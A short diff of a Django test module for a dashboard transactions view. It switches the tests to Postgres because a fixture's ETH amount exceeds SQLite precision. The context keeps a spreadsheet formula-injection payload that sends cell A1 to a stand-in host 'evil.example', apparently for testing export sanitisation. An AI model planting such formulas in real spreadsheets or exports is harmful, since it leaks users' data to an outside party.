@@ -13,7 +13,8 @@ from django.utils import timezone
 from accounts.dashboard.views import transactions as dashboard
 from tests.accounts.dashboard.conftest import deposit, system_wallet
 
-pytestmark = pytest.mark.django_db
+# The fixture's ETH amount has 18 significant digits: SQLite keeps 15 and refuses more.
+pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
